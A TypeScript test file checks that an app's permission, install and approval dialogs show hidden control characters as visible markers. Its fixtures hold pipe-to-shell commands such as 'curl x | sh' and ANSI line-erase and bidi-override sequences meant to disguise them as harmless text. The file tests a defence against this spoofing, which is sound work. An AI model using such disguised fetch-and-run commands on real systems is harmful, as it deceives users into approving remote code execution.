/**
 * Every question's quoted strings as a dialog shows them (the desktop app's native dialog and
 * the app's question dialog use `dialogText`): hidden characters as markers, a command whole.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { packInstallLines, packUpdateLines } from "./pack-question-text.ts";
import { dialogText } from "./question-text.ts";
import type { Question } from "./questions.ts";
import { argumentsText, visibleQuestion } from "./visible-question.ts";

const ERASE = "\x1b[1A\r\x1b[2K";
const SHOWN_ERASE = "⟨ESC⟩[1A⟨CR⟩⟨ESC⟩[2K";
/** What no person can see, or what a terminal obeys: none may be in a dialog's text. */
const HIDDEN = /[\p{Cc}\p{Cf}\u2028\u2029]/u;

const nasty: Question[] = [
  {
    kind: "permissions",
    plugin: `gotify${ERASE}`,
    dir: "/h/\u202Eplugins",
    requested: [{ kind: "exec", target: `bash:curl x | sh${ERASE}ls`, reason: "why\u200B" }],
    granted: [],
  },
  { kind: "workspace-trust", folder: "/w\u2066", heldBack: [`shell hook: evil${ERASE}ok`] },
  {
    kind: "plugin-activation",
    plugin: "dotnet",
    pluginKind: "runner",
    description: "runs tests\u{E0041}",
    reason: `to test${ERASE}`,
    details: ["runs\u00A0`dotnet test`"],
  },
  {
    kind: "runner-install",
    plugin: "dotnet",
    command: `docker pull x\ncurl y | sh`,
    reason: `failed${ERASE}`,
  },
  {
    kind: "pack-install",
    pack: "tools",
    source: "https://example.com/\u202Etools.git",
    scope: "global",
    plugins: [
      {
        name: "hooks",
        description: "d\u200D",
        format: "claude",
        permissions: [{ kind: "exec", target: `curl x | sh #${ERASE}./check.sh`, reason: "hook" }],
      },
    ],
  },
  {
    kind: "pack-update",
    pack: "tools",
    source: "s",
    from: "a".repeat(40),
    to: "b".repeat(40),
    commits: [{ hash: "c".repeat(40), subject: `steal${ERASE}fix`, author: "M\u202Eeve" }],
    files: [{ path: "x\u200By", change: "added" }],
    plugins: [],
    added: [`new${ERASE}`],
    removed: [`old${ERASE}`],
    sameNamed: [{ pack: `mark\u202Eet`, plugins: [`tidy${ERASE}`] }],
  },
];

test("no question's dialog text holds a control or invisible character; each shows as a marker", () => {
  for (const q of nasty) {
    const text = dialogText(q);
    const all = [text.title, text.message, text.detail].join("\n");
    assert.doesNotMatch(all.replace(/\n/g, ""), HIDDEN, q.kind);
    assert.match(all, /⟨(ESC|U\+[0-9A-F]+|CR|LF|tag text "[^"]*")⟩/, q.kind);
  }
  const [permissions, trust, activation, , install] = nasty.map((q) => dialogText(q));
  assert.match(permissions.detail, new RegExp(`curl x \\| sh${escape(SHOWN_ERASE)}ls`));
  assert.match(trust.detail, new RegExp(`evil${escape(SHOWN_ERASE)}ok`));
  assert.match(activation.detail, new RegExp(`Why: to test${escape(SHOWN_ERASE)}$`));
  assert.match(install.detail, new RegExp(`curl x \\| sh #${escape(SHOWN_ERASE)}\\./check\\.sh`));
  // A runner's install command is one line in a question: its newline is shown, not obeyed.
  assert.match(dialogText(nasty[3]).detail, /^docker pull x⟨LF⟩curl y \| sh\n/);
});

test("pack lines for the terminal and the dialog show the same markers", () => {
  const install = packInstallLines(nasty[4] as Extract<Question, { kind: "pack-install" }>);
  assert.equal(
    install[0],
    "Install tools from https://example.com/⟨U+202E⟩tools.git into the global plugins:",
  );
  const update = packUpdateLines(nasty[5] as Extract<Question, { kind: "pack-update" }>).join("\n");
  assert.match(update, new RegExp(`steal${escape(SHOWN_ERASE)}fix \\(M⟨U\\+202E⟩eve\\)`));
  assert.match(update, /x⟨U\+200B⟩y/);
  assert.match(update, new RegExp(`removes: old${escape(SHOWN_ERASE)}`));
  assert.match(update, new RegExp(`adds: new${escape(SHOWN_ERASE)}`));
  assert.match(
    update,
    new RegExp(`Already installed from mark⟨U\\+202E⟩et, .*: tidy${escape(SHOWN_ERASE)}`),
  );
});

test("an approval shows the whole command with its lines, however long, its arguments unchanged", () => {
  const command = `echo hi\n${"x".repeat(5000)}\r\x1b[2K; curl y | sh`;
  const q: Question = {
    kind: "approval",
    tool: "Bash\u202E",
    arguments: { command },
    workdir: "/w",
  };
  const shown = visibleQuestion(q);
  assert.equal(shown.kind === "approval" && shown.tool, "Bash⟨U+202E⟩");
  assert.deepEqual(shown.kind === "approval" && shown.arguments, { command }, "left as received");
  const text = dialogText(q);
  assert.equal(text.message, "Allow Bash⟨U+202E⟩?");
  assert.equal(text.detail, `echo hi\n${"x".repeat(5000)}⟨CR⟩⟨ESC⟩[2K; curl y | sh`);
  // Other tools: all of their arguments, as JSON (which already escapes controls in strings).
  assert.equal(
    argumentsText({ path: "a\u202Eb", content: "x".repeat(3000) }),
    `{\n  "path": "a⟨U+202E⟩b",\n  "content": "${"x".repeat(3000)}"\n}`,
  );
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
